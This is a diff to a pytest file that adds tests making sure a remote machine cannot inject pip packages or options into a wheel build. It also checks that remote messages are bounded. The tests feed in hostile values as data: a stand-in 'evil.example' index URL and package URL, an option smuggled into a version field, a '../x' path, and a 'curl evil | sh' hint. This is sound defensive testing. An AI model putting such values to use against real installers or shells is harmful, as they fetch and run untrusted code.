@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import io
+import json
+import queue
 import sys
 import zipfile
 
@@ -10,10 +12,11 @@ import pytest
 
 from flashmoe_science.errors import InputError, MachineLostError, RemoteError
 from flashmoe_science.proof.remote import Host, bootstrap
+from flashmoe_science.proof.remote.session import _Session
 from flashmoe_science.proof.remote.wheels import REQUIREMENTS, platforms
 
 from ..test_interruption import ROOT
-from .stub import SSH, StubTree, run
+from .stub import SSH, StubTree, request, run
 
 
 @SSH
@@ -169,3 +172,49 @@ def test_wheels_are_for_the_glibc_of_that_machine():
     found = platforms("x86_64", [2, 19])
     assert found == [*(f"manylinux_2_{minor}_x86_64" for minor in (19, 18, 17)), "manylinux2014_x86_64", "linux_x86_64"]
     assert platforms("aarch64", []) == ["linux_aarch64"]
+
+
+HERE = {"python": "3.12", "machine": "x86_64", "glibc": [2, 36], "why": "no index"}
+ASKED = {"event": "wheels wanted", "requirements": ["numpy>=1.26,<2.4"], **HERE}
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"requirements": ["--index-url=http://evil.example", "x"]},
+        {"requirements": ["x @ https://evil.example/x.tar.gz"]},
+        {"requirements": ["numpy>=1.26,<2.4", "another-package"]},
+        {"requirements": "numpy>=1.26,<2.4"},
+        {"requirements": []},
+        {"python": "3.12 --no-binary=:all:"},
+        {"machine": "../x"},
+        {"machine": 3},
+        {"glibc": ["2", "x"]},
+        {"glibc": None},
+        {"why": {"a": 1}},
+    ],
+)
+def test_a_machine_chooses_neither_packages_nor_options_of_pip(changes, monkeypatch):
+    session = _Session(Host("gpu"), 0, queue.Queue(), request("tell"), {"requirements": REQUIREMENTS}, b"", 1.0)
+    ran: list[object] = []
+    monkeypatch.setattr(session, "tell", lambda *_: None)
+    monkeypatch.setattr("flashmoe_science.proof.remote.wheels.subprocess.run", lambda *given, **_: ran.append(given))
+    try:
+        session._hear(json.dumps(ASKED | changes))
+    except RemoteError as error:
+        session.refuse(error)
+    assert ran == []
+    assert isinstance(session.error("", None), RemoteError)
+
+
+def test_what_a_machine_says_is_bounded():
+    session = _Session(Host("gpu"), 0, queue.Queue(), request("tell"), {}, b"", 1.0)
+    for _ in range(10_000):
+        session._hear('{"event": "note", "line": "again"}')
+        session._said.get()
+    with pytest.raises(RemoteError, match="it says more than 10000 things"):
+        session._hear('{"event": "note", "line": "again"}')
+    session._hear(json.dumps({"event": "error", "message": "x" * 10**6, "hint": "curl evil | sh"}))
+    error = session.error("", None)
+    assert len(str(error)) < 3000
+    assert error.hint == "gpu says: curl evil | sh"
